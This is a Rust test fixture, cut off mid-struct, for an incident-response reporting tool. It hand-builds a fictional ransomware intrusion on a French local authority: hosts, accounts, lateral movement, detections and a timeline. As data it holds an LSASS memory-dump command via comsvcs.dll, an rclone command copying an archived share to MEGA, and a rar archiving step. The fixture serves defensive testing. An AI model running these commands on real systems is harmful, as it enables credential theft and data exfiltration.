//! A realistic scope for the reference scenario (docs/scenario.md): the
//! CCPAB ransomware, D-6 02:10 VPN entry to D0 08:30 discovery, with a
//! week of background alerts. Built by hand from the scenario, not by the
//! scope stage, so the report can be tested while that stage evolves.

#![allow(dead_code)]

#[allow(unused_imports)]
pub use vigie_testkit::cdp;

use chrono::{Duration, TimeZone, Utc};
use serde_json::Value as Json;
use vigie_detect::Level;
use vigie_event::{Locator, Timestamp};
use vigie_report::DetectionRow;
use vigie_scope::*;

/// `d` = day relative to encryption day (D0 = Saturday 14 March 2026,
/// the Friday night's detonation just after midnight), hour, minute.
pub fn at(d: i64, h: u32, m: u32) -> Timestamp {
    Utc.with_ymd_and_hms(2026, 3, 14, h, m, 0).unwrap() + Duration::days(d)
}

fn ev(time: Timestamp, host: &str, event_id: u32, record: u64, summary: &str) -> Evidence {
    Evidence {
        time: Some(time),
        source: format!(
            "logs/{host}/{}.evtx",
            if event_id < 100 { "Sysmon" } else { "Security" }
        ),
        locator: Locator::Record(record),
        host: Some(host.to_string()),
        event_id: Some(event_id),
        rule_id: None,
        rule_title: None,
        level: None,
        summary: summary.to_string(),
    }
}

fn det(
    time: Timestamp,
    host: &str,
    event_id: u32,
    record: u64,
    rule: &str,
    level: Level,
    summary: &str,
) -> Evidence {
    Evidence {
        rule_title: Some(rule.to_string()),
        rule_id: Some(format!("rule-{}", rule.len())),
        level: Some(level),
        ..ev(time, host, event_id, record, summary)
    }
}

fn s(v: &[&str]) -> Vec<String> {
    v.iter().map(|x| x.to_string()).collect()
}

fn counts(c: u64, h: u64, m: u64, l: u64) -> LevelCounts {
    LevelCounts {
        informational: 0,
        low: l,
        medium: m,
        high: h,
        critical: c,
        unset: 0,
    }
}

#[allow(clippy::too_many_arguments)]
fn host(
    name: &str,
    zone: &str,
    role: &str,
    compromised: Compromise,
    first: Option<Timestamp>,
    det: LevelCounts,
    services: &[&str],
    reasons: &[&str],
) -> Host {
    Host {
        name: name.into(),
        fqdns: vec![format!("{}.ccpab.local", name.to_lowercase())],
        zone: Some(zone.into()),
        role: Some(role.into()),
        role_source: Some("assets".into()),
        role_reason: None,
        critical: zone != "workstations",
        isolated: zone == "isolated (State)",
        compromised,
        compromise_reasons: s(reasons),
        first_malicious: first,
        last_malicious: first.map(|_| at(0, 1, 5)),
        detections: det,
        services: s(services),
        addresses: vec![],
        incidents: if compromised == Compromise::Yes {
            s(&["INC-1"])
        } else {
            vec![]
        },
        events: 10_000,
        first_event: Some(at(-8, 0, 0)),
        last_event: Some(at(0, 9, 0)),
        evidence: vec![],
    }
}

struct StepSpec {
    day: i64,
    h: u32,
    m: u32,
    tactic: (&'static str, &'static str),
    technique: (&'static str, &'static str),
    rule: &'static str,
    level: Level,
    hosts: &'static [&'static str],
    accounts: &'static [&'static str],
    count: u64,
}

const IA: (&str, &str) = ("TA0001", "Initial Access");
const EX: (&str, &str) = ("TA0002", "Execution");
const PE: (&str, &str) = ("TA0003", "Persistence");
const PR: (&str, &str) = ("TA0004", "Privilege Escalation");
const DE: (&str, &str) = ("TA0005", "Stealth");
const DI2: (&str, &str) = ("TA0112", "Defense Impairment");
const CA: (&str, &str) = ("TA0006", "Credential Access");
const DI: (&str, &str) = ("TA0007", "Discovery");
const LM: (&str, &str) = ("TA0008", "Lateral Movement");
const CO: (&str, &str) = ("TA0009", "Collection");
const C2: (&str, &str) = ("TA0011", "Command and Control");
const EF: (&str, &str) = ("TA0010", "Exfiltration");
const IM: (&str, &str) = ("TA0040", "Impact");

fn attack_steps() -> Vec<StepSpec> {
    use Level::*;
    let st = |day, h, m, tactic, technique, rule, level, hosts, accounts, count| StepSpec {
        day,
        h,
        m,
        tactic,
        technique,
        rule,
        level,
        hosts,
        accounts,
        count,
    };
    vec![
        st(
            -6,
            2,
            10,
            IA,
            ("T1078", "Valid Accounts"),
            "VPN logon of a provider account without MFA from a public address",
            High,
            &["FW01", "SRV-RDS01"],
            &["presta.maint"],
            3,
        ),
        st(
            -6,
            2,
            14,
            LM,
            ("T1021.001", "Remote Desktop Protocol"),
            "Remote desktop logon from the VPN pool",
            Medium,
            &["SRV-RDS01"],
            &["presta.maint"],
            2,
        ),
        st(
            -6,
            2,
            30,
            DI,
            ("T1087.002", "Domain Account"),
            "Suspicious Group And Account Reconnaissance Activity Using Net.EXE",
            Medium,
            &["SRV-RDS01"],
            &["presta.maint"],
            4,
        ),
        st(
            -6,
            2,
            33,
            DI,
            ("T1482", "Domain Trust Discovery"),
            "Potential Recon Activity Via Nltest.EXE",
            Medium,
            &["SRV-RDS01"],
            &["presta.maint"],
            1,
        ),
        st(
            -6,
            2,
            41,
            DI,
            ("T1087.002", "Domain Account"),
            "PUA - AdFind Suspicious Execution",
            High,
            &["SRV-RDS01"],
            &["presta.maint"],
            2,
        ),
        st(
            -6,
            2,
            52,
            DI,
            ("T1046", "Network Service Discovery"),
            "PUA - Advanced IP Scanner Execution",
            Medium,
            &["SRV-RDS01"],
            &["presta.maint"],
            1,
        ),
        st(
            -5,
            3,
            10,
            C2,
            ("T1219", "Remote Access Software"),
            "Remote Access Tool - AnyDesk Silent Installation",
            High,
            &["SRV-RDS01"],
            &["presta.maint"],
            1,
        ),
        st(
            -5,
            3,
            11,
            PE,
            ("T1543.003", "Windows Service"),
            "Anydesk Remote Access Software Service Installation",
            Medium,
            &["SRV-RDS01"],
            &[],
            1,
        ),
        st(
            -5,
            3,
            12,
            C2,
            ("T1219", "Remote Access Software"),
            "DNS Query To Remote Access Software Domain From Non-Browser App",
            Medium,
            &["SRV-RDS01"],
            &[],
            38,
        ),
        st(
            -5,
            4,
            0,
            EX,
            ("T1059", "Command and Scripting Interpreter"),
            "CobaltStrike Named Pipe",
            Critical,
            &["SRV-RDS01"],
            &[],
            6,
        ),
        st(
            -4,
            1,
            20,
            CA,
            ("T1003.001", "LSASS Memory"),
            "Lsass Memory Dump via Comsvcs DLL",
            Critical,
            &["SRV-RDS01"],
            &["presta.maint"],
            2,
        ),
        st(
            -4,
            1,
            31,
            CA,
            ("T1558.003", "Kerberoasting"),
            "Suspicious Kerberos RC4 Ticket Encryption",
            Medium,
            &["DC01"],
            &["svc_veeam"],
            1,
        ),
        st(
            -4,
            2,
            5,
            PE,
            ("T1136.002", "Domain Account"),
            "New User Created Via Net.EXE",
            Medium,
            &["DC01"],
            &["adm.tech01", "svc_sauvegarde"],
            1,
        ),
        st(
            -4,
            2,
            6,
            PR,
            ("T1098", "Account Manipulation"),
            "Member added to 'Admins du domaine'",
            High,
            &["DC01"],
            &["svc_sauvegarde"],
            1,
        ),
        st(
            -3,
            1,
            30,
            LM,
            ("T1021.002", "SMB/Windows Admin Shares"),
            "PsExec Service Installation",
            High,
            &["SRV-FIC01", "SRV-BKP01", "SRV-APP01", "SRV-SOC01"],
            &["svc_sauvegarde"],
            4,
        ),
        st(
            -3,
            1,
            31,
            EX,
            ("T1569.002", "Service Execution"),
            "PsExec Service Child Process Execution as LOCAL SYSTEM",
            High,
            &["SRV-FIC01", "SRV-BKP01"],
            &["svc_sauvegarde"],
            9,
        ),
        st(
            -2,
            2,
            0,
            CA,
            ("T1555", "Credentials from Password Stores"),
            "VeeamBackup Database Credentials Dump Via Sqlcmd.EXE",
            High,
            &["SRV-BKP01"],
            &["svc_sauvegarde"],
            2,
        ),
        st(
            -1,
            22,
            0,
            CO,
            ("T1560.001", "Archive via Utility"),
            "Files Added To An Archive Using Rar.EXE",
            Medium,
            &["SRV-FIC01"],
            &["svc_sauvegarde"],
            3,
        ),
        st(
            -1,
            22,
            40,
            EF,
            ("T1567.002", "Exfiltration to Cloud Storage"),
            "PUA - Rclone Execution",
            High,
            &["SRV-FIC01"],
            &["svc_sauvegarde"],
            1,
        ),
        st(
            -1,
            22,
            41,
            EF,
            ("T1567.002", "Exfiltration to Cloud Storage"),
            "DNS Query To MEGA Hosting Website",
            High,
            &["SRV-FIC01"],
            &[],
            112,
        ),
        st(
            -1,
            23,
            30,
            DI2,
            ("T1562.001", "Disable or Modify Tools"),
            "Windows Defender Real-time Protection Disabled",
            High,
            &["SRV-FIC01", "SRV-APP01", "SRV-SOC01", "SRV-BKP01", "DC01"],
            &["svc_sauvegarde"],
            7,
        ),
        st(
            0,
            0,
            45,
            EX,
            ("T1053.005", "Scheduled Task"),
            "Persistence and Execution at Scale via GPO Scheduled Task",
            High,
            &["DC01"],
            &["svc_sauvegarde"],
            1,
        ),
        st(
            0,
            1,
            0,
            IM,
            ("T1490", "Inhibit System Recovery"),
            "Shadow Copies Deletion Using Operating Systems Utilities",
            Critical,
            &["SRV-FIC01", "SRV-APP01", "SRV-SOC01", "AQUA-CAISSE01"],
            &["SYSTEM"],
            31,
        ),
        st(
            0,
            1,
            1,
            IM,
            ("T1490", "Inhibit System Recovery"),
            "Boot Configuration Tampering Via Bcdedit.EXE",
            High,
            &["SRV-FIC01", "SRV-APP01"],
            &["SYSTEM"],
            31,
        ),
        st(
            0,
            1,
            5,
            DE,
            ("T1070.001", "Clear Windows Event Logs"),
            "Security Eventlog Cleared",
            High,
            &["DC01", "SRV-FIC01"],
            &["svc_sauvegarde"],
            5,
        ),
    ]
}

fn workstations() -> Vec<String> {
    let services = ["ACCUEIL", "URBA", "RH", "COMPTA", "CIAS", "TECH"];
    (0..30)
        .map(|i| {
            format!(
                "PC-{}-{:02}",
                services[i % services.len()],
                i / services.len() + 1
            )
        })
        .collect()
}

/// The scope of the reference scenario.
pub fn ccpab_scope() -> Scope {
    let steps = attack_steps();
    let progression: Vec<ProgressionStep> = steps
        .iter()
        .enumerate()
        .map(|(i, st)| {
            let s_ = st;
            let first = at(s_.day, s_.h, s_.m);
            ProgressionStep {
                first,
                last: first + Duration::minutes(5),
                tactic_id: Some(s_.tactic.0.into()),
                tactic: s_.tactic.1.into(),
                technique_id: Some(s_.technique.0.into()),
                technique: Some(s_.technique.1.into()),
                rule_id: Some(format!("rule-{i}")),
                rule_title: s_.rule.into(),
                level: Some(s_.level),
                hosts: s(s_.hosts),
                accounts: s(s_.accounts),
                count: s_.count,
                evidence: det(
                    first,
                    s_.hosts[0],
                    1,
                    1000 + i as u64,
                    s_.rule,
                    s_.level,
                    s_.rule,
                ),
            }
        })
        .collect();
    let entry = EntryPoint {
        time: Some(at(-6, 2, 10)),
        host: Some("SRV-RDS01".into()),
        account: Some("presta.maint".into()),
        source_address: Some("203.0.113.45".into()),
        source_kind: Some(AddressKind::External),
        method: "vpn".into(),
        description: "The provider account presta.maint (no MFA) opened a VPN session from 203.0.113.45 after 14 failed attempts, then a remote desktop session on SRV-RDS01.".into(),
        confidence: Confidence::High,
        evidence: vec![ev(at(-6, 2, 10), "FW01", 0, 88123, "SSL-VPN tunnel up for presta.maint from 203.0.113.45")],
        process: None,
        parent: None,
    };
    let ws = workstations();
    let mut hosts = vec![
        host(
            "SRV-RDS01",
            "servers",
            "remote_desktop",
            Compromise::Yes,
            Some(at(-6, 2, 14)),
            counts(10, 9, 12, 3),
            &["Remote work"],
            &[
                "Interactive logon of presta.maint from the VPN pool",
                "AnyDesk silently installed",
                "LSASS dumped with comsvcs.dll",
            ],
        ),
        host(
            "DC01",
            "core",
            "domain_controller",
            Compromise::Yes,
            Some(at(-4, 1, 31)),
            counts(0, 9, 2, 1),
            &["*"],
            &[
                "Backdoor account svc_sauvegarde created and added to 'Admins du domaine'",
                "GPO scheduled task deployed",
                "Security log cleared",
            ],
        ),
        host(
            "SRV-FIC01",
            "servers",
            "file_server",
            Compromise::Yes,
            Some(at(-3, 1, 30)),
            counts(8, 131, 3, 0),
            &["Civil registry", "Social action (CIAS)"],
            &[
                "PsExec from SRV-RDS01",
                "CIAS share archived and sent to MEGA",
                "Shadow copies deleted",
            ],
        ),
        host(
            "SRV-BKP01",
            "servers",
            "backup_server",
            Compromise::Yes,
            Some(at(-3, 1, 35)),
            counts(0, 6, 0, 0),
            &["Backups"],
            &[
                "PsExec from SRV-RDS01",
                "Veeam credentials read with sqlcmd",
            ],
        ),
        host(
            "SRV-APP01",
            "servers",
            "application_server",
            Compromise::Yes,
            Some(at(-3, 1, 40)),
            counts(8, 4, 0, 0),
            &["Finance and payroll"],
            &["PsExec from SRV-RDS01", "Shadow copies deleted"],
        ),
        host(
            "SRV-SOC01",
            "servers",
            "application_server",
            Compromise::Yes,
            Some(at(-3, 1, 44)),
            counts(8, 2, 0, 0),
            &["Social action (CIAS)"],
            &["PsExec from SRV-RDS01", "Shadow copies deleted"],
        ),
        host(
            "AQUA-CAISSE01",
            "aquatic centre",
            "workstation",
            Compromise::Yes,
            Some(at(0, 0, 50)),
            counts(7, 1, 0, 0),
            &["Aquatic centre"],
            &["GPO scheduled task ran", "Shadow copies deleted"],
        ),
        host(
            "AQUA-ACCES01",
            "aquatic centre",
            "workstation",
            Compromise::Suspected,
            Some(at(0, 0, 50)),
            counts(0, 1, 0, 0),
            &["Aquatic centre"],
            &["GPO scheduled task created; no process log"],
        ),
        host(
            "DC02",
            "core",
            "domain_controller",
            Compromise::Suspected,
            Some(at(0, 0, 51)),
            counts(0, 1, 0, 0),
            &["*"],
            &["GPO replicated; no malicious process seen"],
        ),
        host(
            "SRV-WEB01",
            "servers",
            "web_server",
            Compromise::No,
            None,
            counts(0, 0, 0, 2),
            &["Family portal"],
            &[],
        ),
        host(
            "TES-01",
            "isolated (State)",
            "isolated_station",
            Compromise::No,
            None,
            counts(0, 0, 0, 0),
            &["Passports and ID cards"],
            &[],
        ),
        host(
            "FW01",
            "edge",
            "firewall",
            Compromise::Suspected,
            Some(at(-6, 2, 10)),
            counts(0, 1, 0, 0),
            &["Remote work"],
            &["VPN used by the attacker"],
        ),
    ];
    for (i, w) in ws.iter().enumerate() {
        let reached = i < 24;
        hosts.push(Host {
            critical: false,
            ..host(
                w,
                "workstations",
                "workstation",
                if reached {
                    Compromise::Yes
                } else {
                    Compromise::No
                },
                reached.then(|| at(0, 0, 50)),
                if reached {
                    counts(1, 1, 0, 0)
                } else {
                    counts(0, 0, 0, 4)
                },
                &[],
                if reached {
                    &["GPO scheduled task ran the encryptor"]
                } else {
                    &[]
                },
            )
        });
    }

    let acct = |name: &str,
                kind,
                privileged,
                c,
                created,
                groups: &[&str],
                reasons: &[&str],
                hosts_: &[&str],
                first: Option<Timestamp>| Account {
        name: name.into(),
        domains: s(&["CCPAB"]),
        kind,
        kind_source: "assets".into(),
        privileged,
        privileged_reason: privileged.then(|| "member of 'Admins du domaine'".to_string()),
        compromised: c,
        compromise_reasons: s(reasons),
        hosts: s(hosts_),
        source_addresses: vec![],
        first_seen: Some(at(-8, 7, 30)),
        last_seen: Some(at(0, 1, 5)),
        created_by: vec![],
        first_malicious: first,
        last_malicious: first.map(|_| at(0, 1, 5)),
        created_during_attack: created,
        added_to_groups: s(groups),
        detections: 10,
        incidents: s(&["INC-1"]),
        evidence: vec![],
    };
    let accounts = vec![
        acct(
            "presta.maint",
            AccountKind::Provider,
            true,
            Compromise::Yes,
            false,
            &[],
            &[
                "VPN logon from 203.0.113.45 without MFA",
                "Ran discovery tools on SRV-RDS01",
            ],
            &["FW01", "SRV-RDS01"],
            Some(at(-6, 2, 10)),
        ),
        acct(
            "svc_sauvegarde",
            AccountKind::Unknown,
            true,
            Compromise::Yes,
            true,
            &["Admins du domaine"],
            &[
                "Created by adm.tech01 during the attack",
                "Used for PsExec and the GPO",
            ],
            &["DC01", "SRV-FIC01", "SRV-BKP01", "SRV-APP01", "SRV-SOC01"],
            Some(at(-4, 2, 5)),
        ),
        acct(
            "adm.tech01",
            AccountKind::Admin,
            true,
            Compromise::Yes,
            false,
            &[],
            &["Used from SRV-RDS01 after the LSASS dump"],
            &["DC01", "SRV-RDS01"],
            Some(at(-4, 2, 0)),
        ),
        acct(
            "svc_veeam",
            AccountKind::Service,
            true,
            Compromise::Yes,
            false,
            &[],
            &[
                "RC4 service ticket requested (Kerberoasting)",
                "Credentials read from the Veeam database",
            ],
            &["SRV-BKP01"],
            Some(at(-4, 1, 31)),
        ),
        acct(
            "marie.dupont",
            AccountKind::User,
            false,
            Compromise::No,
            false,
            &[],
            &[],
            &["PC-ACCUEIL-01"],
            None,
        ),
    ];

    let link =
        |id: usize, from: &str, kind, to: &str, account: &str, method, first: Timestamp, count| {
            Link {
                id: format!("L{id}"),
                from: from.into(),
                from_address: matches!(kind, AddressKind::Vpn | AddressKind::External)
                    .then(|| from.to_string()),
                from_kind: kind,
                to: to.into(),
                account: Some(account.into()),
                method,
                first,
                last: first + Duration::hours(2),
                count,
                malicious: true,
                evidence: vec![ev(first, to, 4624, 5000 + id as u64, "logon")],
            }
        };
    let mut links = vec![
        link(
            1,
            "10.212.134.11",
            AddressKind::Vpn,
            "SRV-RDS01",
            "presta.maint",
            LinkMethod::Rdp,
            at(-6, 2, 14),
            3,
        ),
        link(
            2,
            "SRV-RDS01",
            AddressKind::Internal,
            "DC01",
            "adm.tech01",
            LinkMethod::Rdp,
            at(-4, 2, 0),
            2,
        ),
        link(
            3,
            "SRV-RDS01",
            AddressKind::Internal,
            "SRV-FIC01",
            "svc_sauvegarde",
            LinkMethod::Psexec,
            at(-3, 1, 30),
            2,
        ),
        link(
            4,
            "SRV-RDS01",
            AddressKind::Internal,
            "SRV-BKP01",
            "svc_sauvegarde",
            LinkMethod::Psexec,
            at(-3, 1, 35),
            1,
        ),
        link(
            5,
            "SRV-RDS01",
            AddressKind::Internal,
            "SRV-APP01",
            "svc_sauvegarde",
            LinkMethod::Psexec,
            at(-3, 1, 40),
            1,
        ),
        link(
            6,
            "SRV-RDS01",
            AddressKind::Internal,
            "SRV-SOC01",
            "svc_sauvegarde",
            LinkMethod::Psexec,
            at(-3, 1, 44),
            1,
        ),
        link(
            7,
            "DC01",
            AddressKind::Internal,
            "AQUA-CAISSE01",
            "svc_sauvegarde",
            LinkMethod::RemoteTask,
            at(0, 0, 50),
            1,
        ),
        link(
            8,
            "DC01",
            AddressKind::Internal,
            "AQUA-ACCES01",
            "svc_sauvegarde",
            LinkMethod::RemoteTask,
            at(0, 0, 50),
            1,
        ),
        link(
            9,
            "DC01",
            AddressKind::Internal,
            "DC02",
            "svc_sauvegarde",
            LinkMethod::SmbAdminShare,
            at(0, 0, 51),
            1,
        ),
        link(
            10,
            "DC01",
            AddressKind::Internal,
            "SRV-FIC01",
            "svc_sauvegarde",
            LinkMethod::RemoteTask,
            at(0, 0, 50),
            1,
        ),
    ];
    for (i, w) in ws.iter().take(24).enumerate() {
        links.push(link(
            11 + i,
            "DC01",
            AddressKind::Internal,
            w,
            "svc_sauvegarde",
            LinkMethod::RemoteTask,
            at(0, 0, 50) + Duration::seconds(i as i64 * 7),
            1,
        ));
    }

    let incident_hosts: Vec<EntityActivity> = [
        "SRV-RDS01",
        "DC01",
        "SRV-FIC01",
        "SRV-BKP01",
        "SRV-APP01",
        "SRV-SOC01",
        "AQUA-CAISSE01",
    ]
    .iter()
    .map(|h| EntityActivity {
        name: h.to_string(),
        first: at(-6, 2, 14),
        last: at(0, 1, 5),
        detections: 20,
    })
    .collect();
    let incidents = vec![
        Incident {
            id: "INC-1".into(),
            severity: Level::Critical,
            nature: vec![
                NatureKind::Ransomware,
                NatureKind::DataTheft,
                NatureKind::CredentialTheft,
            ],
            first: at(-6, 2, 10),
            last: at(0, 1, 5),
            hosts: incident_hosts,
            accounts: ["presta.maint", "svc_sauvegarde", "adm.tech01", "svc_veeam"]
                .iter()
                .map(|a| EntityActivity {
                    name: a.to_string(),
                    first: at(-6, 2, 10),
                    last: at(0, 1, 5),
                    detections: 12,
                })
                .collect(),
            addresses: s(&["203.0.113.45", "10.212.134.11"]),
            detections: progression.iter().map(|p| p.count).sum(),
            tactics: {
                let mut t: Vec<String> = Vec::new();
                for p in &progression {
                    if !t.contains(&p.tactic) {
                        t.push(p.tactic.clone());
                    }
                }
                t
            },
            progression,
            entry_point: Some(entry.clone()),
            links: links.iter().map(|l| l.id.clone()).collect(),
            services_affected: s(&[
                "Civil registry",
                "Finance and payroll",
                "Social action (CIAS)",
                "Aquatic centre",
                "Backups",
            ]),
            summary: String::new(),
            nature_detail: vec![],
        },
        Incident {
            id: "INC-2".into(),
            severity: Level::Low,
            nature: vec![NatureKind::Discovery],
            first: at(-7, 9, 12),
            last: at(-2, 16, 40),
            hosts: vec![EntityActivity {
                name: "PC-TECH-01".into(),
                first: at(-7, 9, 12),
                last: at(-2, 16, 40),
                detections: 9,
            }],
            accounts: vec![EntityActivity {
                name: "adm.tech01".into(),
                first: at(-7, 9, 12),
                last: at(-2, 16, 40),
                detections: 9,
            }],
            addresses: vec![],
            detections: 9,
            progression: vec![ProgressionStep {
                first: at(-7, 9, 12),
                last: at(-2, 16, 40),
                tactic_id: Some("TA0007".into()),
                tactic: "Discovery".into(),
                technique_id: Some("T1049".into()),
                technique: Some("System Network Connections Discovery".into()),
                rule_id: Some("noise-1".into()),
                rule_title: "Use of net.exe by an administrator".into(),
                level: Some(Level::Low),
                hosts: s(&["PC-TECH-01"]),
                accounts: s(&["adm.tech01"]),
                count: 9,
                evidence: ev(at(-7, 9, 12), "PC-TECH-01", 1, 42, "net use"),
            }],
            tactics: s(&["Discovery"]),
            entry_point: None,
            links: vec![],
            services_affected: vec![],
            summary: String::new(),
            nature_detail: vec![],
        },
    ];

    let zone = |name: &str,
                critical,
                isolated,
                hosts_: Vec<String>,
                status,
                reason: &str,
                coverage: &[&str]| ZoneStatus {
        zone: name.into(),
        critical,
        isolated,
        hosts: hosts_,
        status,
        reason: reason.into(),
        coverage: s(coverage),
        evidence: vec![],
    };
    let zones = vec![
        zone(
            "core",
            true,
            false,
            s(&["DC01", "DC02"]),
            ZoneReach::Reached,
            "DC01 is compromised: backdoor account, GPO deployment, log clearing.",
            &["DC01 Security 6 Mar → 14 Mar (cleared 14 Mar 01:05)"],
        ),
        zone(
            "servers",
            true,
            false,
            s(&[
                "SRV-FIC01",
                "SRV-APP01",
                "SRV-SOC01",
                "SRV-BKP01",
                "SRV-RDS01",
                "SRV-WEB01",
            ]),
            ZoneReach::Reached,
            "Five of six servers show attacker activity; SRV-WEB01 shows none.",
            &["Security, Sysmon and System logs of all six servers"],
        ),
        zone(
            "aquatic centre",
            true,
            false,
            s(&["AQUA-CAISSE01", "AQUA-ACCES01"]),
            ZoneReach::Reached,
            "The GPO scheduled task ran on AQUA-CAISSE01 and deleted its shadow copies.",
            &[
                "AQUA-CAISSE01 Security and Sysmon",
                "AQUA-ACCES01 Security only",
            ],
        ),
        Zone_not_reached(),
    ];

    let service = |name: &str, st, hosts_: &[&str], reason: &str| ServiceStatus {
        service: name.into(),
        description: None,
        status: st,
        hosts: s(hosts_),
        reason: reason.into(),
    };
    let services = vec![
        service(
            "Civil registry",
            ServiceState::Affected,
            &["SRV-FIC01", "DC01"],
            "The file server holding the Etat-civil share is encrypted.",
        ),
        service(
            "Finance and payroll",
            ServiceState::Affected,
            &["SRV-APP01", "DC01"],
            "SRV-APP01 (SQL Server) is encrypted.",
        ),
        service(
            "Social action (CIAS)",
            ServiceState::Affected,
            &["SRV-SOC01", "SRV-FIC01"],
            "Social case files encrypted and copied out.",
        ),
        service(
            "Family portal",
            ServiceState::Degraded,
            &["DC01"],
            "SRV-WEB01 shows no attack, but logons depend on the compromised DC01.",
        ),
        service(
            "Backups",
            ServiceState::Affected,
            &["SRV-BKP01"],
            "Backup catalogue deleted; Veeam credentials stolen.",
        ),
        service(
            "Aquatic centre",
            ServiceState::Affected,
            &["AQUA-CAISSE01", "AQUA-ACCES01"],
            "Ticketing station encrypted; logons fail.",
        ),
        service(
            "Remote work",
            ServiceState::Affected,
            &["FW01", "SRV-RDS01"],
            "The VPN and remote desktop server are the attacker's way in.",
        ),
        service(
            "Passports and ID cards",
            ServiceState::Unaffected,
            &["TES-01"],
            "TES-01 is on the State's own line and was not reached.",
        ),
    ];

    let mut channels = Vec::new();
    for h in hosts.iter().take(12) {
        for (ch, n) in [
            ("Security", 48_000u64),
            ("Microsoft-Windows-Sysmon/Operational", 120_000),
            ("System", 9_000),
        ] {
            if h.name == "FW01" && ch != "Security" {
                continue;
            }
            let mut c = ChannelCoverage {
                host: h.name.clone(),
                channel: if h.name == "FW01" {
                    "fortigate".into()
                } else {
                    ch.into()
                },
                first: Some(at(-8, 0, 0)),
                last: Some(at(0, 9, 0)),
                events: n / (1 + h.name.len() as u64 % 3),
                first_record: Some(1),
                last_record: Some(n),
                record_gaps: vec![],
                cleared: vec![],
                silences: vec![],
            };
            if ch == "Security" && (h.name == "DC01" || h.name == "SRV-FIC01") {
                c.cleared.push(ClearedLog {
                    time: Some(at(0, 1, 5)),
                    cleared_channel: "Security".into(),
                    account: Some("svc_sauvegarde".into()),
                    evidence: ev(at(0, 1, 5), &h.name, 1102, 1, "The audit log was cleared"),
                });
            }
            if ch == "Security" && h.name == "SRV-APP01" {
                c.record_gaps.push(RecordGap {
                    after: 30_000,
                    before: 30_412,
                    missing: 411,
                });
            }
            if h.name == "AQUA-ACCES01" && ch == "System" {
                c.silences.push(Silence {
                    from: at(-3, 18, 0),
                    to: at(-2, 7, 0),
                    seconds: 13 * 3600,
                });
            }
            channels.push(c);
        }
    }

    let rule_counts: Vec<RuleCount> = attack_steps()
        .iter()
        .map(|st| RuleCount {
            rule_id: None,
            title: st.rule.into(),
            level: Some(st.level),
            tags: vec![
                format!("attack.{}", st.tactic.1.to_lowercase().replace(' ', "-")),
                format!("attack.{}", st.technique.0.to_lowercase()),
            ],
            count: st.count,
            hosts: s(st.hosts),
            first: Some(at(st.day, st.h, st.m)),
            last: Some(at(st.day, st.h, st.m) + Duration::minutes(5)),
        })
        .collect();

    Scope {
        schema_version: SCHEMA_VERSION.into(),
        lang: Default::default(),
        assessment: Default::default(),
        credential_attacks: vec![],
        observed: Some(Period { first: at(-8, 0, 0), last: at(0, 9, 0) }),
        attack_period: Some(Period { first: at(-6, 2, 10), last: at(0, 8, 30) }),
        assets_loaded: true,
        answer: Answer {
            headline: "Human-operated ransomware with data theft: the attacker came in through the provider's VPN account six days before encrypting the servers, copied the CIAS social files out to MEGA, and reached every zone except the State's passport station.".into(),
            nature: "Human-operated ransomware with data theft (double extortion).".into(),
            entry: "VPN account presta.maint (outside provider, no MFA) from 203.0.113.45, Sun 8 Mar 02:10 — six days before the encryption.".into(),
            extent: "6 servers, the aquatic centre's ticketing station and 24 workstations; accounts presta.maint, adm.tech01, svc_veeam and the backdoor svc_sauvegarde (domain admin).".into(),
            isolated_systems: "The passport and ID-card station TES-01 was not reached: its logs are complete for the whole period and show no contact.".into(),
            data_exposure: "The CIAS share (social case files) was archived and about 150 GB were sent to MEGA on Fri 13 Mar from 22:40.".into(),
            isolate_now: s(&[
                "Cut the VPN access of presta.maint",
                "Disconnect SRV-RDS01 from the network",
                "Block AnyDesk (*.net.anydesk.com) and mega.nz at the firewall",
                "Disable the backdoor account svc_sauvegarde",
            ]),
        },
        nature: vec![
            Nature { kind: NatureKind::Ransomware, label: "Human-operated ransomware".into(), confidence: Confidence::High, reasons: s(&["Shadow copies deleted", "GPO mass deployment"]), evidence: vec![], independent_evidence: 0, confidence_reason: String::new() },
            Nature { kind: NatureKind::DataTheft, label: "Data theft".into(), confidence: Confidence::High, reasons: s(&["rar + rclone to MEGA"]), evidence: vec![], independent_evidence: 0, confidence_reason: String::new() },
            Nature { kind: NatureKind::CredentialTheft, label: "Credential theft".into(), confidence: Confidence::Medium, reasons: s(&["LSASS dump", "Kerberoasting"]), evidence: vec![], independent_evidence: 0, confidence_reason: String::new() },
        ],
        entry_point: Some(entry),
        incidents,
        hosts,
        accounts,
        addresses: vec![],
        links,
        processes: vec![
            Process {
                host: "SRV-RDS01".into(),
                time: Some(at(-4, 1, 20)),
                image: r"C:\Windows\System32\rundll32.exe".into(),
                command_line: Some(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full".into()),
                user: Some("CCPAB\\presta.maint".into()),
                process_id: Some("4711".into()),
                parent_chain: s(&["cmd.exe", "explorer.exe"]),
                parent_beyond_horizon: false,
                parent_command_line: None,
                rules: s(&["Lsass Memory Dump via Comsvcs DLL"]),
                evidence: ev(at(-4, 1, 20), "SRV-RDS01", 1, 7777, "process creation"),
            },
            Process {
                host: "SRV-FIC01".into(),
                time: Some(at(-1, 22, 40)),
                image: r"C:\ProgramData\rclone.exe".into(),
                command_line: Some(r"rclone.exe copy D:\Partages\cias.rar mega:backup -q --transfers 16".into()),
                user: Some("CCPAB\\svc_sauvegarde".into()),
                process_id: Some("912".into()),
                parent_chain: s(&["cmd.exe", "PSEXESVC.exe"]),
                parent_beyond_horizon: false,
                parent_command_line: None,
                rules: s(&["PUA - Rclone Execution"]),
                evidence: ev(at(-1, 22, 40), "SRV-FIC01", 1, 9911, "process creation"),
            },
        ],
        services_installed: vec![ServiceInstall {
            host: "SRV-FIC01".into(),
            time: Some(at(-3, 1, 30)),
            name: "PSEXESVC".into(),
            image_path: Some(r"%SystemRoot%\PSEXESVC.exe".into()),
            account: Some("LocalSystem".into()),
            suspicious: true,
            rules: s(&["PsExec Service Installation"]),
            evidence: ev(at(-3, 1, 30), "SRV-FIC01", 7045, 321, "service installed"),
        }],
        scheduled_tasks: vec![],
        domains: vec![Domain {
            domain: "g.api.mega.co.nz".into(),
            hosts: s(&["SRV-FIC01"]),
            processes: s(&["rclone.exe"]),
            first: Some(at(-1, 22, 41)),
            last: Some(at(-1, 23, 58)),
            count: 112,
            reasons: s(&["file_sharing"]),
            evidence: vec![],
        }],
        files: vec![],
        data_exposure: vec![
            DataExposure {
                store: Some("CIAS".into()),
                host: Some("SRV-FIC01".into()),
                activity: ExposureActivity::Archive,
                tool: Some("rar.exe".into()),
                description: r"rar a -hp*** cias.rar D:\Partages\CIAS".into(),
